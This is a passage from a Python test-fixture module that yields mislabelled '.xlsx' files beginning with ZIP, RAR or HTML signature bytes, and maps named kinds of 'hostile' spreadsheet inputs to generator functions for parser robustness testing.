        "zip": b"PK",
        "rar": b"Rar!\x1a",
        "html": b"<table>",
    }.items():
        yield f"other-{name}.xlsx", data


KINDS = {
    "formulas": _formulas, "declared": _declared, "places": _places, "large": _large, "values": _values, "zips": _zips,
    "links": _links, "stamps": _stamps, "old": _old, "texts": _texts,
}  # fmt: skip


def all_of(kind: str) -> Iterator[tuple[str, bytes]]:
    """The hostile files of one *kind*."""
    return KINDS[kind]()
